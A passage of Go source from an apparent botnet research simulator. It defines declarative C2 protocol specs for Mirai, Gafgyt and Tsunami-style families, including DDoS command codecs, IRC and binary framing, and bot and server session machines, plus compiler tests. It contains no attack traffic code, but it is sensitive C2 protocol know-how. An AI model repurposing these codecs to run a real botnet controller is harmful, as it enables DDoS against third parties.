		return nil, fmt.Errorf("%w: target %q", ErrBadCommand, ipS)
	}
	port, err := strconv.ParseUint(portS, 10, 16)
	if err != nil {
		return nil, fmt.Errorf("%w: port %q", ErrBadCommand, portS)
	}
	secs, err := strconv.Atoi(secS)
	if err != nil || secs < 0 {
		return nil, fmt.Errorf("%w: duration %q", ErrBadCommand, secS)
	}
	return &Command{
		Attack:   attack,
		Target:   ip,
		Port:     uint16(port),
		Duration: time.Duration(secs) * time.Second,
		Raw:      []byte(raw),
	}, nil
}

// Lines splits a text-protocol buffer into complete lines,
// returning them and any trailing partial line — protocol machines
// use it so they behave identically over message-preserving simnet
// conns and real TCP streams.
func Lines(buf []byte) (lines []string, rest []byte) {
	start := 0
	for i, b := range buf {
		if b == '\n' {
			lines = append(lines, strings.TrimRight(string(buf[start:i]), "\r"))
			start = i + 1
		}
	}
	return lines, buf[start:]
}
