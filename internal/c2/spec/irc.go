package spec

import (
	"fmt"
	"strings"
)

// IRC-framed families (Tsunami lineage) exchange only the handful of
// message types bots and C2s need: registration (NICK/USER), channel
// join, server PING/PONG, and PRIVMSG carrying operator commands.

// IRCMessage is one parsed IRC line.
type IRCMessage struct {
	Prefix  string
	Command string
	Params  []string
	// Trailing is the ":"-prefixed final parameter.
	Trailing string
}

// EncodeIRC renders the message as a CRLF-terminated IRC line.
func (m IRCMessage) EncodeIRC() []byte {
	var sb strings.Builder
	if m.Prefix != "" {
		sb.WriteByte(':')
		sb.WriteString(m.Prefix)
		sb.WriteByte(' ')
	}
	sb.WriteString(m.Command)
	for _, p := range m.Params {
		sb.WriteByte(' ')
		sb.WriteString(p)
	}
	if m.Trailing != "" {
		sb.WriteString(" :")
		sb.WriteString(m.Trailing)
	}
	sb.WriteString("\r\n")
	return []byte(sb.String())
}

// ParseIRC parses one IRC line (without its CRLF).
func ParseIRC(line string) (IRCMessage, error) {
	line = strings.TrimRight(line, "\r\n")
	var m IRCMessage
	if line == "" {
		return m, fmt.Errorf("spec: empty IRC line")
	}
	rest := line
	if rest[0] == ':' {
		sp := strings.IndexByte(rest, ' ')
		if sp < 0 {
			return m, fmt.Errorf("spec: IRC prefix without command: %q", line)
		}
		m.Prefix = rest[1:sp]
		rest = rest[sp+1:]
	}
	if tr := strings.Index(rest, " :"); tr >= 0 {
		m.Trailing = rest[tr+2:]
		rest = rest[:tr]
	}
	fields := strings.Fields(rest)
	if len(fields) == 0 {
		return m, fmt.Errorf("spec: IRC line without command: %q", line)
	}
	m.Command = fields[0]
	m.Params = fields[1:]
	return m, nil
}
