package spec

import (
	"bytes"
	"strings"
)

// The protocol machines: pure byte-in/event-out state machines for
// the bot side (ClientConn) and server side (ServerSession) of a
// compiled protocol. The caller owns the connection, the clock, and
// all side effects; a machine only says what to write and what state
// transition the inbound bytes caused. That purity is what makes the
// spec-driven sessions byte-identical across worker counts: the
// machines cannot observe anything but their input.

// ClientEvent is one consequence of inbound server data at the bot.
// Exactly one field is meaningful per event.
type ClientEvent struct {
	// Write is wire bytes the bot must send back (keepalive answers,
	// IRC registration steps).
	Write []byte
	// Cmd is a decoded DDoS command the bot must execute.
	Cmd *Command
	// Op is a raw operator line (IRC PRIVMSG payload) for the bot's
	// command interpreter.
	Op string
}

// ClientConn is the bot side of a protocol session.
type ClientConn interface {
	// Data consumes one inbound chunk and returns the resulting
	// events in protocol order.
	Data(b []byte) []ClientEvent
}

// ServerEvent is one consequence of inbound bot data at the server.
type ServerEvent struct {
	// Write is wire bytes the server must send back.
	Write []byte
	// Ready marks the session command-eligible (the bot logged in).
	Ready bool
}

// ServerSession is the server side of a protocol session.
type ServerSession interface {
	Data(b []byte) []ServerEvent
}

// NewClient returns the bot-side machine for the protocol.
func (c *Compiled) NewClient() ClientConn {
	switch c.spec.Framing {
	case FramingBinary:
		return &binaryClient{c: c}
	case FramingLines:
		return &linesClient{c: c}
	case FramingIRC:
		return &ircClient{c: c}
	}
	return rawClient{}
}

// NewSession returns the server-side machine for the protocol.
func (c *Compiled) NewSession() ServerSession {
	return &serverSession{c: c}
}

// ---- client machines ----

// binaryClient: exact keepalive chunks are answered (or swallowed);
// anything else is tried as a command frame.
type binaryClient struct{ c *Compiled }

func (m *binaryClient) Data(b []byte) []ClientEvent {
	ka := m.c.spec.Keepalive
	if ka.Ping != "" && string(b) == ka.Ping {
		if ka.Pong != "" {
			return []ClientEvent{{Write: []byte(ka.Pong)}}
		}
		return nil // server echo of our own ping
	}
	if cmd, err := m.c.decodeBinary(b); err == nil {
		return []ClientEvent{{Cmd: cmd}}
	}
	return nil
}

// linesClient: buffered line protocol; keepalive lines are answered,
// other lines are tried as commands.
type linesClient struct {
	c   *Compiled
	buf []byte
}

func (m *linesClient) Data(b []byte) []ClientEvent {
	m.buf = append(m.buf, b...)
	var lines []string
	lines, m.buf = Lines(m.buf)
	var events []ClientEvent
	ka := m.c.spec.Keepalive
	for _, ln := range lines {
		if ka.Ping != "" && strings.TrimSpace(ln) == ka.Ping {
			if ka.Pong != "" {
				events = append(events, ClientEvent{Write: []byte(ka.Pong + "\n")})
			}
			continue
		}
		if cmd, err := m.c.ParseCommandLine(ln); err == nil {
			events = append(events, ClientEvent{Cmd: cmd})
		}
	}
	return events
}

// ircClient: the register/join/ping dance plus PRIVMSG operator
// lines.
type ircClient struct {
	c   *Compiled
	buf []byte
}

func (m *ircClient) Data(b []byte) []ClientEvent {
	m.buf = append(m.buf, b...)
	var lines []string
	lines, m.buf = Lines(m.buf)
	var events []ClientEvent
	for _, ln := range lines {
		msg, err := ParseIRC(ln)
		if err != nil {
			continue
		}
		switch msg.Command {
		case "001":
			events = append(events, ClientEvent{Write: IRCMessage{
				Command: "JOIN", Params: []string{m.c.spec.Session.Channel}}.EncodeIRC()})
		case "PING":
			events = append(events, ClientEvent{Write: IRCMessage{
				Command: "PONG", Trailing: msg.Trailing}.EncodeIRC()})
		case "PRIVMSG":
			events = append(events, ClientEvent{Op: msg.Trailing})
		}
	}
	return events
}

// rawClient ignores everything (HTTP-ish beacon protocols: the bot
// holds the session, the 200s need no answer).
type rawClient struct{}

func (rawClient) Data([]byte) []ClientEvent { return nil }

// ---- server machine ----

type serverSession struct {
	c     *Compiled
	ready bool
	buf   []byte
	nick  string
}

func (s *serverSession) Data(b []byte) []ServerEvent {
	sp := s.c.spec.Session
	switch sp.Ready {
	case ReadyHandshake:
		if !s.ready && bytes.HasPrefix(b, []byte(sp.ReadyPat)) {
			s.ready = true
			return []ServerEvent{{Ready: true}}
		}
		if e := sp.EchoExact; e != "" && string(b) == e {
			return []ServerEvent{{Write: []byte(e)}}
		}
	case ReadyAnyData:
		s.ready = true // any login line registers the bot
		return []ServerEvent{{Ready: true}}
	case ReadyLinePrefix:
		var lines []string
		s.buf = append(s.buf, b...)
		lines, s.buf = Lines(s.buf)
		var events []ServerEvent
		for _, ln := range lines {
			if strings.HasPrefix(ln, sp.ReadyPat) {
				s.ready = true
				events = append(events, ServerEvent{Ready: true})
			}
		}
		return events
	case ReadyChunkPrefix:
		if len(b) > len(sp.ReadyPat) && string(b[:len(sp.ReadyPat)]) == sp.ReadyPat {
			s.ready = true
			return []ServerEvent{{Write: []byte(sp.ReadyReply)}, {Ready: true}}
		}
	case ReadyIRC:
		var lines []string
		s.buf = append(s.buf, b...)
		lines, s.buf = Lines(s.buf)
		var events []ServerEvent
		for _, ln := range lines {
			m, err := ParseIRC(ln)
			if err != nil {
				continue
			}
			switch m.Command {
			case "NICK":
				if len(m.Params) > 0 {
					s.nick = m.Params[0]
				}
				events = append(events, ServerEvent{Write: IRCMessage{
					Prefix: sp.ServerName, Command: "001",
					Params: []string{s.nick}, Trailing: sp.WelcomeText}.EncodeIRC()})
			case "JOIN":
				s.ready = true
				events = append(events, ServerEvent{Ready: true})
			case "PONG":
				// keepalive answered; nothing to do
			}
		}
		return events
	}
	return nil
}
