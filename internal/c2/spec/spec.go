// Package spec is the declarative heart of the C2 layer: a botnet
// family's protocol — login grammar, command wire encodings,
// keepalive cadence, probe handshake, duty-cycle model — is written
// down as a ProtocolSpec value and compiled into the codec, the
// server-side session machine, the bot-side client machine, and the
// probe classifier that used to be four hand-written per-family
// implementations. New families are data, not code.
//
// The package is pure mechanism over bytes: no clocks, no network,
// no randomness. Everything stateful (sessions, servers, bots) lives
// in the packages that drive the compiled machines.
package spec

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
)

// ErrSpec is the root of every specification error Compile returns.
// Compile never panics: a spec decoded from arbitrary bytes either
// compiles or fails with an error wrapping ErrSpec.
var ErrSpec = errors.New("spec: invalid protocol spec")

// Codec errors (shared by every compiled protocol).
var (
	// ErrShort rejects truncated binary command frames.
	ErrShort = errors.New("spec: short command")
	// ErrVector rejects unknown binary attack vectors.
	ErrVector = errors.New("spec: unknown attack vector")
	// ErrNotCommand marks protocol chatter that is not a DDoS
	// command (keepalives, logins, unknown verbs on bare-verb
	// grammars).
	ErrNotCommand = errors.New("spec: line is not a DDoS command")
	// ErrBadCommand marks a line that claims to be a command but is
	// malformed (bad arity, unparsable target/port/duration).
	ErrBadCommand = errors.New("spec: malformed DDoS command")
	// ErrNotAttack rejects encoding an attack outside the family's
	// command set.
	ErrNotAttack = errors.New("spec: attack not in family command set")
)

// Framing names the transport grammar a protocol speaks.
type Framing string

// The four framings the compiler knows.
const (
	// FramingBinary is length-prefixed binary frames (Mirai lineage).
	FramingBinary Framing = "binary"
	// FramingLines is newline-terminated text lines.
	FramingLines Framing = "lines"
	// FramingIRC is IRC lines (CRLF, prefix/command/params/trailing).
	FramingIRC Framing = "irc"
	// FramingRaw is opaque chunks (HTTP-ish beacons).
	FramingRaw Framing = "raw"
)

// MatchKind selects how a Match compares against wire bytes.
type MatchKind string

// Match kinds.
const (
	MatchExact    MatchKind = "exact"
	MatchPrefix   MatchKind = "prefix"
	MatchContains MatchKind = "contains"
)

// Match is a declarative byte-pattern predicate.
type Match struct {
	Kind MatchKind `json:"kind"`
	Pat  string    `json:"pat"`
}

// Matches applies the predicate.
func (m Match) Matches(data []byte) bool {
	switch m.Kind {
	case MatchExact:
		return string(data) == m.Pat
	case MatchPrefix:
		return bytes.HasPrefix(data, []byte(m.Pat))
	case MatchContains:
		return bytes.Contains(data, []byte(m.Pat))
	}
	return false
}

// ReadyKind selects how the server-side session machine detects a
// bot login (the transition that makes a session command-eligible).
type ReadyKind string

// Ready rules.
const (
	// ReadyHandshake: a chunk opening with Pat's bytes is the login
	// (Mirai's 4-byte version handshake).
	ReadyHandshake ReadyKind = "handshake"
	// ReadyAnyData: any inbound data registers the bot (Gafgyt).
	ReadyAnyData ReadyKind = "any-data"
	// ReadyLinePrefix: a complete line opening with Pat (Daddyl33t's
	// "l33t <nick>").
	ReadyLinePrefix ReadyKind = "line-prefix"
	// ReadyChunkPrefix: a chunk strictly longer than Pat opening
	// with it; the session replies with SessionSpec.ReadyReply
	// (VPNFilter's HTTP beacon).
	ReadyChunkPrefix ReadyKind = "chunk-prefix"
	// ReadyIRC: the NICK/welcome/JOIN register dance; requires
	// FramingIRC and SessionSpec's ServerName/WelcomeText/Channel.
	ReadyIRC ReadyKind = "irc"
	// ReadyNone: sessions never become ready (P2P families with no
	// client-server C2).
	ReadyNone ReadyKind = "none"
)

// SessionSpec declares the server-side session machine.
type SessionSpec struct {
	// Ready is the login-detection rule.
	Ready ReadyKind `json:"ready"`
	// ReadyPat parameterizes handshake/line-prefix/chunk-prefix.
	ReadyPat string `json:"ready_pat,omitempty"`
	// ReadyReply is written when a chunk-prefix rule fires.
	ReadyReply string `json:"ready_reply,omitempty"`
	// EchoExact, when set, makes the server echo any chunk exactly
	// equal to it (Mirai's 2-byte keepalive echo).
	EchoExact string `json:"echo_exact,omitempty"`
	// ServerName/WelcomeText/Channel parameterize the IRC machine.
	ServerName  string `json:"server_name,omitempty"`
	WelcomeText string `json:"welcome_text,omitempty"`
	Channel     string `json:"channel,omitempty"`
}

// KeepaliveSpec declares both keepalive directions.
type KeepaliveSpec struct {
	// Server is the server→bot ping wire written on a timer; empty
	// means the server never pings (binary/raw families).
	Server string `json:"server,omitempty"`
	// Ping/Pong is the bot's answer rule: an inbound line (lines
	// framing, whitespace-trimmed) or exact chunk (binary framing)
	// equal to Ping makes the bot write Pong. An empty Pong with a
	// non-empty Ping means "recognize and swallow" (Mirai's echo of
	// its own ping). IRC framing answers PING structurally instead.
	Ping string `json:"ping,omitempty"`
	Pong string `json:"pong,omitempty"`
	// Client is a bot-initiated keepalive wire sent every
	// ClientEverySecs seconds (default 60); empty means the bot only
	// answers server pings.
	Client          string `json:"client,omitempty"`
	ClientEverySecs int    `json:"client_every_secs,omitempty"`
}

// CommandSpec declares the family's attack-command wire encoding.
// Exactly one of Binary/Text is set.
type CommandSpec struct {
	Binary *BinaryCommandSpec `json:"binary,omitempty"`
	Text   *TextCommandSpec   `json:"text,omitempty"`
}

// BinaryCommandSpec is the Mirai-lineage frame:
//
//	u16 total_len | u32 duration | u8 vector | u8 n_targets |
//	n * (ipv4[4] | netmask u8) | u8 n_opts | n * (key u8 | len u8 | val)
type BinaryCommandSpec struct {
	// Vectors maps attack types onto wire vector ids, in the
	// family's canonical order.
	Vectors []VectorSpec `json:"vectors"`
	// DportOptKey is the option key carrying the target port.
	DportOptKey uint8 `json:"dport_opt_key"`
}

// VectorSpec is one binary attack-vector row.
type VectorSpec struct {
	Attack AttackType `json:"attack"`
	Vector uint8      `json:"vector"`
	// TCPTransport marks decoded commands of this vector as
	// TCP-transported (Mirai's TLS variant).
	TCPTransport bool `json:"tcp_transport,omitempty"`
}

// TextCommandSpec is the verb-grammar command line:
//
//	<prefix><VERB> <ip> [<port>] <secs>
type TextCommandSpec struct {
	// Prefix opens every command line ("!* " for Gafgyt; "" for
	// bare-verb grammars). With a prefix, prefixed-but-malformed
	// lines are ErrBadCommand; without one, unknown verbs are plain
	// ErrNotCommand chatter.
	Prefix string `json:"prefix,omitempty"`
	// Verbs maps attack types onto verbs, in canonical order.
	Verbs []VerbSpec `json:"verbs"`
}

// VerbSpec is one text-verb row.
type VerbSpec struct {
	Attack AttackType `json:"attack"`
	Verb   string     `json:"verb"`
	// Portless commands omit the port field (BLACKNURSE).
	Portless bool `json:"portless,omitempty"`
}

// ProbeSpec declares the weaponized-probe handshake (§2.1's second
// mode): the messages that elicit C2 engagement and the classifier
// for the server's reaction.
type ProbeSpec struct {
	// Messages are the raw opening wires, sent in order.
	Messages []string `json:"messages"`
	// Engage: data matching any of these is protocol engagement.
	Engage []Match `json:"engage"`
}

// SignatureSpec declares the traffic classifier's protocol artifact:
// a session whose first outbound payload matches is labeled.
type SignatureSpec struct {
	Match Match  `json:"match"`
	Label string `json:"label"`
}

// DutyModel is the per-slot Markov responsiveness chain behind the
// paper's "elusive C2" finding (§3.2, Figure 4), as declarative
// parameters. The clocked chain itself lives in the c2 package.
type DutyModel struct {
	// SlotHours is the chain's time step (the paper probes at 4h).
	SlotHours float64 `json:"slot_hours"`
	// RespAfterResp is P(responsive | previous slot responsive).
	RespAfterResp float64 `json:"resp_after_resp"`
	// RespAfterIdle is P(responsive | previous slot idle).
	RespAfterIdle float64 `json:"resp_after_idle"`
}

// MultiSource modes: which variants rotate flood source ports.
const (
	MultiSourceNever  = ""       // fixed source port
	MultiSourceAlways = "always" // every variant rotates
	MultiSourceV2     = "v2"     // only the v2 variant rotates
)

// Topology values: the C2 shape world generation builds for the
// family.
const (
	// TopologyClientServer is the default bots-dial-one-server shape.
	TopologyClientServer = ""
	// TopologyP2PRelay: bots dial relay nodes; relays forward
	// commands from a hidden origin C2.
	TopologyP2PRelay = "p2p-relay"
	// TopologyDGA: C2 endpoints are DGA domains rotating on a
	// seed-deterministic schedule.
	TopologyDGA = "dga"
)

// ProtocolSpec is one family's complete declarative protocol.
type ProtocolSpec struct {
	// Name is the family name — the registry key and the label every
	// dataset uses.
	Name string `json:"name"`
	// Transport is the Table 6 label (binary/text/irc/https/p2p).
	Transport string `json:"transport"`
	// Description is the family's Table 6 text, abridged.
	Description string `json:"description,omitempty"`
	// P2P marks families without client-server C2 (bots run the DHT
	// loop instead of dialing the spec's protocol).
	P2P bool `json:"p2p,omitempty"`
	// Topology refines the C2 shape for scenario packs:
	// "" (client-server), "p2p-relay", "dga".
	Topology string `json:"topology,omitempty"`
	// LaunchesAttacks marks families whose servers issue DDoS
	// commands.
	LaunchesAttacks bool `json:"launches_attacks,omitempty"`

	// Framing selects the wire grammar.
	Framing Framing `json:"framing"`
	// Login is the bot's session-opening wire sequence; templates
	// may reference {variant} and {nick}.
	Login []string `json:"login,omitempty"`
	// Session is the server-side machine.
	Session SessionSpec `json:"session"`
	// Keepalive covers both keepalive directions.
	Keepalive KeepaliveSpec `json:"keepalive"`
	// Commands is the attack command codec; nil for families that
	// never issue attacks over this protocol.
	Commands *CommandSpec `json:"commands,omitempty"`
	// Probe is the weaponized-probe handshake; nil falls back to a
	// generic 4-byte poke with any-data engagement.
	Probe *ProbeSpec `json:"probe,omitempty"`
	// Signature is the traffic classifier's artifact; nil means the
	// family is classified by behavior only.
	Signature *SignatureSpec `json:"signature,omitempty"`
	// Duty is the default elusiveness model for the family's probed
	// servers.
	Duty DutyModel `json:"duty"`

	// Artifacts are the strings a binary of the family carries in
	// .rodata (drives binfmt encoding and YARA rule generation).
	Artifacts []string `json:"artifacts,omitempty"`
	// Ports are the listen ports the family's servers use.
	Ports []uint16 `json:"ports,omitempty"`
	// MultiSourcePorts picks the flood source-port mode.
	MultiSourcePorts string `json:"multi_source_ports,omitempty"`
}

// loginVarPat lists the template variables Login may reference.
var loginVars = []string{"{variant}", "{nick}"}

// Compile validates the spec and returns the executable protocol.
// It never panics; every failure wraps ErrSpec.
func Compile(ps ProtocolSpec) (*Compiled, error) {
	fail := func(format string, args ...any) (*Compiled, error) {
		return nil, fmt.Errorf("%w: %s", ErrSpec, fmt.Sprintf(format, args...))
	}
	if ps.Name == "" {
		return fail("missing name")
	}
	switch ps.Framing {
	case FramingBinary, FramingLines, FramingIRC, FramingRaw:
	default:
		return fail("family %q: unknown framing %q", ps.Name, ps.Framing)
	}
	switch ps.Session.Ready {
	case ReadyAnyData, ReadyNone, "":
	case ReadyHandshake, ReadyLinePrefix, ReadyChunkPrefix:
		if ps.Session.ReadyPat == "" {
			return fail("family %q: ready rule %q needs ready_pat", ps.Name, ps.Session.Ready)
		}
	case ReadyIRC:
		if ps.Framing != FramingIRC {
			return fail("family %q: irc ready rule needs irc framing", ps.Name)
		}
		if ps.Session.Channel == "" {
			return fail("family %q: irc ready rule needs a channel", ps.Name)
		}
	default:
		return fail("family %q: unknown ready rule %q", ps.Name, ps.Session.Ready)
	}
	if ps.Keepalive.Pong != "" && ps.Keepalive.Ping == "" {
		return fail("family %q: keepalive pong without ping", ps.Name)
	}
	if ps.Keepalive.ClientEverySecs < 0 {
		return fail("family %q: negative client keepalive cadence", ps.Name)
	}
	for _, tpl := range ps.Login {
		if err := checkTemplate(tpl); err != nil {
			return fail("family %q: login template: %v", ps.Name, err)
		}
	}
	c := &Compiled{spec: ps}
	if ps.Commands != nil {
		if (ps.Commands.Binary == nil) == (ps.Commands.Text == nil) {
			return fail("family %q: commands need exactly one of binary/text", ps.Name)
		}
		if b := ps.Commands.Binary; b != nil {
			if len(b.Vectors) == 0 {
				return fail("family %q: binary commands without vectors", ps.Name)
			}
			c.vecOf = make(map[AttackType]VectorSpec, len(b.Vectors))
			c.attackOf = make(map[uint8]VectorSpec, len(b.Vectors))
			for _, v := range b.Vectors {
				if _, dup := c.vecOf[v.Attack]; dup {
					return fail("family %q: duplicate attack %v in vector table", ps.Name, v.Attack)
				}
				if _, dup := c.attackOf[v.Vector]; dup {
					return fail("family %q: duplicate vector %d", ps.Name, v.Vector)
				}
				c.vecOf[v.Attack] = v
				c.attackOf[v.Vector] = v
			}
		}
		if t := ps.Commands.Text; t != nil {
			if len(t.Verbs) == 0 {
				return fail("family %q: text commands without verbs", ps.Name)
			}
			c.verbOf = make(map[AttackType]VerbSpec, len(t.Verbs))
			c.attackOfVerb = make(map[string]VerbSpec, len(t.Verbs))
			for _, v := range t.Verbs {
				if v.Verb == "" || strings.ContainsAny(v.Verb, " \t\r\n") {
					return fail("family %q: bad verb %q", ps.Name, v.Verb)
				}
				if _, dup := c.verbOf[v.Attack]; dup {
					return fail("family %q: duplicate attack %v in verb table", ps.Name, v.Attack)
				}
				if _, dup := c.attackOfVerb[v.Verb]; dup {
					return fail("family %q: duplicate verb %q", ps.Name, v.Verb)
				}
				c.verbOf[v.Attack] = v
				c.attackOfVerb[v.Verb] = v
			}
		}
	}
	if p := ps.Probe; p != nil {
		if len(p.Messages) == 0 {
			return fail("family %q: probe without messages", ps.Name)
		}
		if len(p.Engage) == 0 {
			return fail("family %q: probe without engagement rules", ps.Name)
		}
		for _, m := range p.Engage {
			if err := checkMatch(m); err != nil {
				return fail("family %q: probe engage: %v", ps.Name, err)
			}
		}
	}
	if s := ps.Signature; s != nil {
		if err := checkMatch(s.Match); err != nil {
			return fail("family %q: signature: %v", ps.Name, err)
		}
		if s.Label == "" {
			return fail("family %q: signature without label", ps.Name)
		}
	}
	d := ps.Duty
	if d.SlotHours < 0 ||
		d.RespAfterResp < 0 || d.RespAfterResp > 1 ||
		d.RespAfterIdle < 0 || d.RespAfterIdle > 1 {
		return fail("family %q: duty model out of range", ps.Name)
	}
	for _, port := range ps.Ports {
		if port == 0 {
			return fail("family %q: zero server port", ps.Name)
		}
	}
	switch ps.MultiSourcePorts {
	case MultiSourceNever, MultiSourceAlways, MultiSourceV2:
	default:
		return fail("family %q: unknown multi_source_ports mode %q", ps.Name, ps.MultiSourcePorts)
	}
	switch ps.Topology {
	case TopologyClientServer, TopologyP2PRelay, TopologyDGA:
	default:
		return fail("family %q: unknown topology %q", ps.Name, ps.Topology)
	}
	for _, tpl := range ps.Login {
		if strings.Contains(tpl, "{nick}") {
			c.needsNick = true
		}
	}
	return c, nil
}

// checkTemplate rejects login templates with unknown {var} refs.
func checkTemplate(tpl string) error {
	rest := tpl
	for {
		i := strings.IndexByte(rest, '{')
		if i < 0 {
			return nil
		}
		j := strings.IndexByte(rest[i:], '}')
		if j < 0 {
			return nil // unbalanced braces are literal bytes
		}
		ref := rest[i : i+j+1]
		known := false
		for _, v := range loginVars {
			if ref == v {
				known = true
			}
		}
		if !known {
			return fmt.Errorf("unknown template variable %s", ref)
		}
		rest = rest[i+j+1:]
	}
}

// checkMatch rejects degenerate match rules.
func checkMatch(m Match) error {
	switch m.Kind {
	case MatchExact, MatchPrefix, MatchContains:
	default:
		return fmt.Errorf("unknown match kind %q", m.Kind)
	}
	if m.Pat == "" {
		return fmt.Errorf("empty match pattern")
	}
	return nil
}
