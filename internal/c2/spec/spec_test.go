package spec

import (
	"encoding/json"
	"errors"
	"net/netip"
	"strings"
	"testing"
	"time"
)

// minimal returns the smallest spec Compile accepts.
func minimal() ProtocolSpec {
	return ProtocolSpec{Name: "t", Framing: FramingRaw}
}

func TestCompileMinimal(t *testing.T) {
	c, err := Compile(minimal())
	if err != nil {
		t.Fatal(err)
	}
	if c.Name() != "t" || c.CanIssue() || c.NeedsNick() {
		t.Fatalf("compiled = %+v", c)
	}
}

func TestCompileRejections(t *testing.T) {
	cases := []struct {
		name string
		mut  func(*ProtocolSpec)
	}{
		{"missing name", func(p *ProtocolSpec) { p.Name = "" }},
		{"unknown framing", func(p *ProtocolSpec) { p.Framing = "morse" }},
		{"ready needs pat", func(p *ProtocolSpec) { p.Session.Ready = ReadyHandshake }},
		{"irc ready needs irc framing", func(p *ProtocolSpec) {
			p.Session.Ready = ReadyIRC
			p.Session.Channel = "#x"
		}},
		{"irc ready needs channel", func(p *ProtocolSpec) {
			p.Framing = FramingIRC
			p.Session.Ready = ReadyIRC
		}},
		{"unknown ready rule", func(p *ProtocolSpec) { p.Session.Ready = "telepathy" }},
		{"pong without ping", func(p *ProtocolSpec) { p.Keepalive.Pong = "PONG" }},
		{"negative keepalive cadence", func(p *ProtocolSpec) { p.Keepalive.ClientEverySecs = -1 }},
		{"bad login template", func(p *ProtocolSpec) { p.Login = []string{"hello {world}"} }},
		{"commands need one codec", func(p *ProtocolSpec) { p.Commands = &CommandSpec{} }},
		{"commands not both codecs", func(p *ProtocolSpec) {
			p.Commands = &CommandSpec{Binary: &BinaryCommandSpec{}, Text: &TextCommandSpec{}}
		}},
		{"binary without vectors", func(p *ProtocolSpec) {
			p.Commands = &CommandSpec{Binary: &BinaryCommandSpec{}}
		}},
		{"duplicate vector", func(p *ProtocolSpec) {
			p.Commands = &CommandSpec{Binary: &BinaryCommandSpec{Vectors: []VectorSpec{
				{Attack: AttackUDPFlood, Vector: 0}, {Attack: AttackSYNFlood, Vector: 0},
			}}}
		}},
		{"duplicate attack", func(p *ProtocolSpec) {
			p.Commands = &CommandSpec{Binary: &BinaryCommandSpec{Vectors: []VectorSpec{
				{Attack: AttackUDPFlood, Vector: 0}, {Attack: AttackUDPFlood, Vector: 1},
			}}}
		}},
		{"text without verbs", func(p *ProtocolSpec) {
			p.Commands = &CommandSpec{Text: &TextCommandSpec{}}
		}},
		{"verb with whitespace", func(p *ProtocolSpec) {
			p.Commands = &CommandSpec{Text: &TextCommandSpec{Verbs: []VerbSpec{
				{Attack: AttackUDPFlood, Verb: "UDP FLOOD"},
			}}}
		}},
		{"duplicate verb", func(p *ProtocolSpec) {
			p.Commands = &CommandSpec{Text: &TextCommandSpec{Verbs: []VerbSpec{
				{Attack: AttackUDPFlood, Verb: "X"}, {Attack: AttackSYNFlood, Verb: "X"},
			}}}
		}},
		{"probe without messages", func(p *ProtocolSpec) {
			p.Probe = &ProbeSpec{Engage: []Match{{Kind: MatchExact, Pat: "x"}}}
		}},
		{"probe without engage", func(p *ProtocolSpec) {
			p.Probe = &ProbeSpec{Messages: []string{"x"}}
		}},
		{"probe bad match kind", func(p *ProtocolSpec) {
			p.Probe = &ProbeSpec{Messages: []string{"x"}, Engage: []Match{{Kind: "regex", Pat: "x"}}}
		}},
		{"signature empty pattern", func(p *ProtocolSpec) {
			p.Signature = &SignatureSpec{Match: Match{Kind: MatchPrefix}, Label: "l"}
		}},
		{"signature without label", func(p *ProtocolSpec) {
			p.Signature = &SignatureSpec{Match: Match{Kind: MatchPrefix, Pat: "x"}}
		}},
		{"duty out of range", func(p *ProtocolSpec) { p.Duty.RespAfterResp = 1.5 }},
		{"negative slot hours", func(p *ProtocolSpec) { p.Duty.SlotHours = -4 }},
		{"zero port", func(p *ProtocolSpec) { p.Ports = []uint16{23, 0} }},
		{"unknown multi-source mode", func(p *ProtocolSpec) { p.MultiSourcePorts = "sometimes" }},
		{"unknown topology", func(p *ProtocolSpec) { p.Topology = "star" }},
	}
	for _, tc := range cases {
		ps := minimal()
		tc.mut(&ps)
		if _, err := Compile(ps); !errors.Is(err, ErrSpec) {
			t.Errorf("%s: err = %v, want ErrSpec", tc.name, err)
		}
	}
}

func TestLoginTemplates(t *testing.T) {
	ps := minimal()
	ps.Login = []string{"HELLO {variant} {nick}\n", "literal {unclosed\n"}
	c, err := Compile(ps)
	if err != nil {
		t.Fatal(err)
	}
	if !c.NeedsNick() {
		t.Fatal("{nick} template must set NeedsNick")
	}
	got := c.Login(LoginVars{Variant: "V2", Nick: "B|x86|0001"})
	want := []string{"HELLO V2 B|x86|0001\n", "literal {unclosed\n"}
	for i := range want {
		if string(got[i]) != want[i] {
			t.Fatalf("login[%d] = %q, want %q", i, got[i], want[i])
		}
	}
}

func TestClientKeepaliveDefaults(t *testing.T) {
	ps := minimal()
	ps.Keepalive.Client = "\x00\x00"
	c, _ := Compile(ps)
	wire, every, ok := c.ClientKeepalive()
	if !ok || string(wire) != "\x00\x00" || every != 60*time.Second {
		t.Fatalf("keepalive = %q/%v/%v, want 60s default cadence", wire, every, ok)
	}
	ps.Keepalive.ClientEverySecs = 90
	c, _ = Compile(ps)
	if _, every, _ := c.ClientKeepalive(); every != 90*time.Second {
		t.Fatalf("cadence = %v, want 90s", every)
	}
	if _, _, ok := MustCompileTest(t, minimal()).ClientKeepalive(); ok {
		t.Fatal("keepalive reported without a client wire")
	}
}

// MustCompileTest compiles or fails the test.
func MustCompileTest(t *testing.T, ps ProtocolSpec) *Compiled {
	t.Helper()
	c, err := Compile(ps)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestMatchKinds(t *testing.T) {
	data := []byte("BUILD GAFGYT V1\n")
	cases := []struct {
		m    Match
		want bool
	}{
		{Match{Kind: MatchPrefix, Pat: "BUILD GAFGYT"}, true},
		{Match{Kind: MatchPrefix, Pat: "GAFGYT"}, false},
		{Match{Kind: MatchContains, Pat: "GAFGYT"}, true},
		{Match{Kind: MatchExact, Pat: "BUILD GAFGYT V1\n"}, true},
		{Match{Kind: MatchExact, Pat: "BUILD"}, false},
	}
	for _, tc := range cases {
		if got := tc.m.Matches(data); got != tc.want {
			t.Fatalf("%+v on %q = %v, want %v", tc.m, data, got, tc.want)
		}
	}
}

func TestJSONRoundTrip(t *testing.T) {
	// Specs must survive JSON (the config-override path) without
	// changing what they compile to.
	ps := ProtocolSpec{
		Name:    "jt",
		Framing: FramingLines,
		Login:   []string{"HI {nick}\n"},
		Session: SessionSpec{Ready: ReadyLinePrefix, ReadyPat: "HI"},
		Keepalive: KeepaliveSpec{
			Server: "PING\n", Ping: "PING", Pong: "PONG!",
		},
		Commands: &CommandSpec{Text: &TextCommandSpec{
			Prefix: "!* ",
			Verbs:  []VerbSpec{{Attack: AttackUDPFlood, Verb: "UDP"}},
		}},
		Ports: []uint16{666},
	}
	blob, err := json.Marshal(ps)
	if err != nil {
		t.Fatal(err)
	}
	var back ProtocolSpec
	if err := json.Unmarshal(blob, &back); err != nil {
		t.Fatal(err)
	}
